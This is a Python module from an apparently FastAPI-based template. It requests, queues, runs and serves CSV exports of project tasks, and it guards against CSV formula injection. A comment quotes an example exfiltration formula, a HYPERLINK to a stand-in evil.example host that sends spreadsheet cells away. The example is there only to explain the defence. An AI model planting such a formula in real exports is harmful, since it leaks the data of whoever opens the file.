"""Project exports as CSV: asking for one, following it, and running it.

An export reads every task of a project, which can take longer than a request should. So a
request only writes an `ExportJob` row, and a worker runs the job later (worker.py). The rules
of both sides are here, as plain code over sessions: neither FastAPI nor taskiq appears (the
queue is any `JobQueue`), so a request, a worker and a test all call the same functions.
"""

import csv
import functools
import io
import math
import uuid
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Final, Protocol, cast

import sqlalchemy as sa
import structlog
from sqlalchemy import ColumnElement
from sqlalchemy.exc import IntegrityError
from sqlalchemy.orm import QueryableAttribute, defer
from sqlmodel import col, delete, func, select
from sqlmodel.ext.asyncio.session import AsyncSession
from sqlmodel.sql.expression import SelectOfScalar
from tenacity import (
    AsyncRetrying,
    retry_if_exception_type,
    stop_after_attempt,
    wait_exponential_jitter,
)

from fast_api_template.core.errors import (
    ConflictError,
    NotFoundError,
    TooManyAttemptsError,
    UnavailableError,
)
from fast_api_template.db import DATABASE_UNAVAILABLE, SessionFactory, on_commit, transaction
from fast_api_template.models import ExportJob, Task, User
from fast_api_template.models.base import utc_now
from fast_api_template.models.domain.export_job import FINISHED, ExportStatus
from fast_api_template.services.exceptions import ProjectNotFoundError
from fast_api_template.services.projects import ProjectService

logger = structlog.stdlib.get_logger(__name__)

CSV_COLUMNS: Final = ("id", "title", "status", "created_at", "updated_at")
# The longest that a run waits between two attempts, however many there are.
MAX_RETRY_DELAY_SECONDS: Final = 60.0
GAVE_UP: Final = "The database did not answer, {attempts} times. Ask for a new export later."
UNEXPECTED: Final = "The export failed. Quote the job id when you report it."


class ExportNotFoundError(NotFoundError):
    """No export job with this id belongs to the acting user."""

    code = "export-not-found"
    title = "Export not found"

    def __init__(self, job_id: uuid.UUID) -> None:
        super().__init__(f"There is no export {job_id}.")
        self.job_id = job_id


class ExportNotReadyError(ConflictError):
    """The job has no file (yet): it is queued or running, or it failed."""

    code = "export-not-ready"
    title = "Export not ready"

    def __init__(self, job: ExportJob) -> None:
        if job.status == ExportStatus.FAILED:
            detail = f"The export failed: {job.error} Ask for a new one."
        else:
            detail = f"The export is {job.status}. Its file is ready when its status is done."
        super().__init__(detail)
        self.status = job.status


class IdempotencyKeyReusedError(ConflictError):
    """An Idempotency-Key came back with a request for another project."""

    code = "idempotency-key-reused"
    title = "Idempotency key already used"

    def __init__(self) -> None:
        super().__init__(
            "This Idempotency-Key was sent with an export of another project. "
            "Send a new key with each new request."
        )


class ExportQuotaExceededError(TooManyAttemptsError):
    """The user holds as many exports as they may; the oldest frees its place in time."""

    code = "export-quota-exceeded"
    title = "Too many exports"

    def __init__(self, retry_after: int) -> None:
        super().__init__(retry_after, attempts="exports held")


# A spreadsheet runs a cell that starts with one of these as a formula. A task titled
# =HYPERLINK("https://evil.example/?"&A2, "Details") would become a link that sends the
# cells of the export away, one click after the owner opens it in Excel or LibreOffice
# ("CSV injection", OWASP). A leading apostrophe makes the spreadsheet show the cell as text.
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: str) -> str:
    """Return a cell that a spreadsheet shows as text, never runs as a formula."""
    return f"'{cell}" if cell.startswith(FORMULA_STARTS) else cell


def render_csv(rows: Iterable[Sequence[object]]) -> str:
    """Write rows of `CSV_COLUMNS` as CSV, header first (RFC 4180: CRLF, every field quoted)."""
    buffer = io.StringIO()
    # Every field quoted, not only those with a comma: a spreadsheet set to split columns on
    # ";" or a tab would cut `x;=1+1` into a second cell that starts with "=" and runs. Inside
    # quotes, nothing splits a cell.
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)
    writer.writerow(CSV_COLUMNS)
    for row in rows:
        writer.writerow([neutralise(_text(value)) for value in row])
    return buffer.getvalue()


def _text(value: object) -> str:
    return value.isoformat() if isinstance(value, datetime) else str(value)


# --8<-- [start:quota]
@dataclass(frozen=True)
class ExportQuota:
    """How many exports one user may hold at once, and for how long a finished one is held.

    A job is held from its request until `keep_for` after it finished: queued, running, then
    kept. So one user's exports take at most `per_user` files, and a burst of requests makes
    at most `per_user` jobs. A job that never finishes (its process stopped mid-run) holds
    its place for `keep_for` after its request, so that lost jobs cannot lock a user out.
    """

    per_user: int
    keep_for: timedelta


# --8<-- [end:quota]


# --8<-- [start:queue]
class JobQueue(Protocol):
    """Where export jobs wait for a worker: all that the service needs of a queue.

    core/jobs.py has the one on taskiq's broker; a test can pass a list of its own.
    """

    async def put_export(self, job_id: uuid.UUID) -> None:
        """Queue the run of one export job.

        Raises:
            UnavailableError: The queue does not answer.

        """


# --8<-- [end:queue]


@dataclass(frozen=True)
class RequestedExport:
    """The job that a request for an export got, and whether the request made it."""

    job: ExportJob
    created: bool


@dataclass(frozen=True)
class ExportFile:
    """A finished export: the file's name and its text."""

    filename: str
    content: str


class ExportService:
    """The exports of the acting user: ask for one, see how it goes, download it.

    Args:
        session: The unit of work (`db.transaction`): it commits or rolls back, then runs
            what this service registered to follow the commit.
        projects: The projects that the acting user may see, and who that user is. A job
            belongs to the user who asked for it; an admin sees every job.
        queue: Where a new job goes once its row is committed.

    """

    def __init__(self, session: AsyncSession, projects: ProjectService, queue: JobQueue) -> None:
        self.session = session
        self.projects = projects
        self.queue = queue

    async def request(
        self, project_id: int, *, quota: ExportQuota, idempotency_key: str | None = None
    ) -> RequestedExport:
        """Ask for an export of a project, or find the job of an earlier identical request.

        The user's requests take turns, from the quota's count to the commit: a burst of them
        cannot all count the same free place. A retry with the key of an earlier request finds
        its job, whatever the quota says. A new job is queued once the unit of work commits,
        so that a worker that takes it at once finds its row.

        Args:
            project_id: The project to export.
            quota: How many exports the user may hold.
            idempotency_key: The client's name for this request; sent again, it finds the
                same job. None: every request makes a job.

        Raises:
            ProjectNotFoundError: No such project, or the acting user may not see it.
            IdempotencyKeyReusedError: The key came with an export of another project.
            ExportQuotaExceededError: The user holds `quota.per_user` exports already.
            UnavailableError: After the commit: the queue did not answer, and the job was
                deleted again.

        """
        await self.projects.get(project_id)
        await self._take_turn()
        if idempotency_key is not None:
            earlier = await self._with_key(idempotency_key)
            if earlier is not None:
                return self._replayed(earlier, project_id)
        await self._check_quota(quota)
        job = ExportJob(
            owner_id=self.projects.owner_id,
            project_id=project_id,
            idempotency_key=idempotency_key,
        )
        try:
            async with self.session.begin_nested():  # flushed when the block ends
                self.session.add(job)
        except IntegrityError:
            return await self._earlier(project_id, idempotency_key)
        on_commit(self.session, functools.partial(self._queue, job.id))
        return RequestedExport(job, created=True)

    async def _queue(self, job_id: uuid.UUID) -> None:
        # Runs after the commit. When the queue does not answer, the job goes again: the
        # client's retry, with the same Idempotency-Key, then makes it anew, instead of
        # finding a job that nothing would ever run.
        try:
            await self.queue.put_export(job_id)
        except UnavailableError:
            async with self.session.begin():
                await discard_export(self.session, job_id)
            raise

    async def _take_turn(self) -> None:
        # FOR UPDATE on the user's row (PostgreSQL): their next request waits here until this
        # one commits. SQLite has one writer at a time anyway (its lock is taken at BEGIN).
        query = select(col(User.id)).where(col(User.id) == self.projects.owner_id)
        await self.session.exec(query.with_for_update())

    async def _check_quota(self, quota: ExportQuota) -> None:
        now = utc_now()
        # When a job's hold started: when it finished, or, until then, when it was asked for.
        held_from = func.coalesce(col(ExportJob.finished_at), col(ExportJob.created_at))
        held = sa.select(func.count(), func.min(held_from)).where(
            col(ExportJob.owner_id) == self.projects.owner_id,
            held_from >= now - quota.keep_for,
        )
        connection = await self.session.connection()
        count, oldest = (await connection.execute(held)).one()
        if count >= quota.per_user:
            # The earliest that a place frees; a job that finishes before then holds it longer,
            # and the client is told again.
            frees_at = oldest + quota.keep_for
            raise ExportQuotaExceededError(max(1, math.ceil((frees_at - now).total_seconds())))

    async def _with_key(self, idempotency_key: str) -> ExportJob | None:
        query = self._jobs().where(
            col(ExportJob.owner_id) == self.projects.owner_id,
            col(ExportJob.idempotency_key) == idempotency_key,
        )
        return (await self.session.exec(query)).first()

    @staticmethod
    def _replayed(earlier: ExportJob, project_id: int) -> RequestedExport:
        if earlier.project_id != project_id:
            raise IdempotencyKeyReusedError
        return RequestedExport(earlier, created=False)

    async def _earlier(self, project_id: int, idempotency_key: str | None) -> RequestedExport:
        earlier = None if idempotency_key is None else await self._with_key(idempotency_key)
        if earlier is None:
            # Not the key, so a foreign key: the project went since it was read above.
            raise ProjectNotFoundError(project_id)
        return self._replayed(earlier, project_id)

    async def get(self, job_id: uuid.UUID) -> ExportJob:
        """Return one of the acting user's export jobs, without its file.

        Raises:
            ExportNotFoundError: No such job, or the acting user may not see it or, any
                longer, its project.

        """
        query = self._jobs().where(col(ExportJob.id) == job_id, *self._visible())
        job = (await self.session.exec(query)).first()
        if job is None:
            raise ExportNotFoundError(job_id)
        await self._check_project(job)
        return job

    async def file(self, job_id: uuid.UUID) -> ExportFile:
        """Return the file of one of the acting user's finished exports.

        Raises:
            ExportNotFoundError: No such job, or the acting user may not see it or, any
                longer, its project.
            ExportNotReadyError: The job is not done: queued, running or failed.

        """
        query = select(ExportJob).where(col(ExportJob.id) == job_id, *self._visible())
        job = (await self.session.exec(query)).first()
        if job is None:
            raise ExportNotFoundError(job_id)
        await self._check_project(job)
        if job.status != ExportStatus.DONE or job.result is None:
            raise ExportNotReadyError(job)
        return ExportFile(filename=f"project-{job.project_id}-tasks.csv", content=job.result)

    def _visible(self) -> list[ColumnElement[bool]]:
        # Like projects: another user's job is "not found", so nobody learns which ids exist.
        if self.projects.sees_all:
            return []
        return [col(ExportJob.owner_id) == self.projects.owner_id]

    async def _check_project(self, job: ExportJob) -> None:
        # A job holds a copy of its project's tasks, so reading it needs the right to see the
        # project now, not only when the export was asked for: an admin who exported another
        # user's project and has been demoted since must not download it.
        try:
            await self.projects.check_visible(job.project_id)
        except ProjectNotFoundError:
            raise ExportNotFoundError(job.id) from None

    @staticmethod
    def _jobs() -> SelectOfScalar[ExportJob]:
        return _without_file(select(ExportJob))


def _without_file(query: SelectOfScalar[ExportJob]) -> SelectOfScalar[ExportJob]:
    # The CSV can be megabytes: reading a job's status must not load it. raiseload: code that
    # reads it anyway fails in the tests, instead of loading it quietly. (On the class, a
    # SQLModel field is the column's attribute, which its type hint cannot say.)
    result = cast("QueryableAttribute[str | None]", ExportJob.result)
    return query.options(defer(result, raiseload=True))


async def discard_export(session: AsyncSession, job_id: uuid.UUID) -> None:
    """Delete a job that never reached the queue, unless a run has started it since."""
    statement = delete(ExportJob).where(
        col(ExportJob.id) == job_id, col(ExportJob.status) == ExportStatus.QUEUED
    )
    await session.exec(statement)


async def delete_finished_exports(
    session: AsyncSession, *, before: datetime, owner_id: int | None = None
) -> int:
    """Delete the exports that finished (done or failed) before `before`: a user's, or all.

    Returns:
        How many were deleted.

    """
    statement = delete(ExportJob).where(col(ExportJob.finished_at) < before)
    if owner_id is not None:
        statement = statement.where(col(ExportJob.owner_id) == owner_id)
    result = await session.exec(statement)
    return result.rowcount


async def sweep_expired_exports(
    session_factory: SessionFactory,
    keep_for: timedelta,
    *,
    owner_id: int | None = None,
    now: datetime | None = None,
) -> int:
    """Delete the exports that finished over `keep_for` ago: the retention, enforced.

    Every user's, in a worker's sweep; one user's, as housekeeping after their request. A
    database that does not answer keeps them until the next sweep.

    Args:
        session_factory: Opens the unit of work.
        keep_for: How long a finished export is kept.
        owner_id: Only this user's exports; None: everyone's.
        now: The time to measure from; the current time when None.

    Returns:
        How many were deleted.

    """
    before = (now or utc_now()) - keep_for
    try:
        async with transaction(session_factory) as session:
            deleted = await delete_finished_exports(session, before=before, owner_id=owner_id)
    except DATABASE_UNAVAILABLE as error:
        logger.warning("expired_exports_kept", error=type(error).__name__)
        return 0
    if deleted:
        logger.info("expired_exports_deleted", count=deleted)
    return deleted


class ExportRunner:
    """Run export jobs to their end, outside any request: what a worker does with a job.

    A queue delivers a job at least once: a worker that dies mid-job leaves its message to
    another, and a client's retried request may queue a job again. So a run is idempotent:
    a finished job (done or failed) is never run again, and two runs of one job write the
    same file.

    A database that does not answer (`db.DATABASE_UNAVAILABLE`) is worth waiting for: the
    run is tried again, up to `max_attempts` runs in all, with exponential backoff. Anything
    else is a bug or bad data, which another run would meet again: the job fails at once.

    Args:
        session_factory: Opens the units of work; each step of a run is one.
        max_attempts: Runs of a job, the first included, when the database fails.
        retry_delay: Seconds before the first retry; each next one waits twice as long, with
            a random part of up to `retry_delay` added, so that jobs do not retry in step.

    """

    def __init__(
        self, session_factory: SessionFactory, *, max_attempts: int, retry_delay: float
    ) -> None:
        self.session_factory = session_factory
        self.max_attempts = max_attempts
        self.retry_delay = retry_delay

    # --8<-- [start:run]
    async def run(self, job_id: uuid.UUID) -> None:
        """Run a job until it is done, or failed with a short reason for its user."""
        retrying = AsyncRetrying(
            retry=retry_if_exception_type(DATABASE_UNAVAILABLE),
            stop=stop_after_attempt(self.max_attempts),
            wait=backoff(self.retry_delay),
            reraise=True,
        )
        try:
            async for attempt in retrying:
                with attempt:
                    await self._attempt(job_id)
        except DATABASE_UNAVAILABLE as error:
            logger.warning("export_gave_up", job_id=str(job_id), error=type(error).__name__)
            await self._fail(job_id, GAVE_UP.format(attempts=self.max_attempts))
        except Exception:
            # The traceback goes to the log, with the job id; the job only says that it failed,
            # since an exception's message may quote the data.
            logger.exception("export_failed", job_id=str(job_id))
            await self._fail(job_id, UNEXPECTED)

    # --8<-- [end:run]

    async def _attempt(self, job_id: uuid.UUID) -> None:
        # Two units of work: the first makes "running" visible to the job's user at once.
        async with transaction(self.session_factory) as session:
            job = await _locked(session, job_id)
            if job is None or job.status in FINISHED:
                return  # deleted with its project, or finished by an earlier delivery
            job.status = ExportStatus.RUNNING
            job.attempts += 1
        async with transaction(self.session_factory) as session:
            job = await _locked(session, job_id)
            if job is None or job.status in FINISHED:
                return
            rows = await _task_rows(session, job.project_id)
            job.result = render_csv(rows)
            job.status = ExportStatus.DONE
            job.error = None
            job.finished_at = utc_now()
        logger.info("export_done", job_id=str(job_id), rows=len(rows), attempts=job.attempts)

    async def _fail(self, job_id: uuid.UUID, reason: str) -> None:
        try:
            async with transaction(self.session_factory) as session:
                job = await _locked(session, job_id)
                if job is not None and job.status not in FINISHED:
                    job.status = ExportStatus.FAILED
                    job.error = reason
                    job.finished_at = utc_now()
        except DATABASE_UNAVAILABLE as error:
            # Nowhere left to say it: the job stays queued or running, and its user can ask
            # for a new export (with a new Idempotency-Key).
            logger.error("export_not_recorded", job_id=str(job_id), error=type(error).__name__)


# --8<-- [start:backoff]
def backoff(first_delay: float) -> wait_exponential_jitter:
    """Wait `first_delay` seconds before the first retry, twice as long before each next one.

    Each wait, a minute at most, gets a random part of up to `first_delay`: the jobs that one
    outage failed then come back spread out, not all in the same instant.
    """
    return wait_exponential_jitter(
        multiplier=first_delay, max=MAX_RETRY_DELAY_SECONDS, jitter=first_delay
    )


# --8<-- [end:backoff]


async def _locked(session: AsyncSession, job_id: uuid.UUID) -> ExportJob | None:
    # FOR UPDATE (PostgreSQL): two runs of one job take turns at each step, so the second sees
    # what the first wrote. SQLite locks the whole database at BEGIN (see db.py) anyway.
    query = _without_file(select(ExportJob)).where(col(ExportJob.id) == job_id)
    return (await session.exec(query.with_for_update())).first()


async def _task_rows(session: AsyncSession, project_id: int) -> list[tuple[object, ...]]:
    # The columns of the file only, oldest task first: no model objects for a large project.
    # SQLAlchemy's select: SQLModel's types a select of four columns at most.
    query = (
        sa.select(
            col(Task.id),
            col(Task.title),
            col(Task.status),
            col(Task.created_at),
            col(Task.updated_at),
        )
        .where(col(Task.project_id) == project_id)
        .order_by(col(Task.created_at), col(Task.id))
    )
    connection = await session.connection()
    return [tuple(row) for row in await connection.execute(query)]
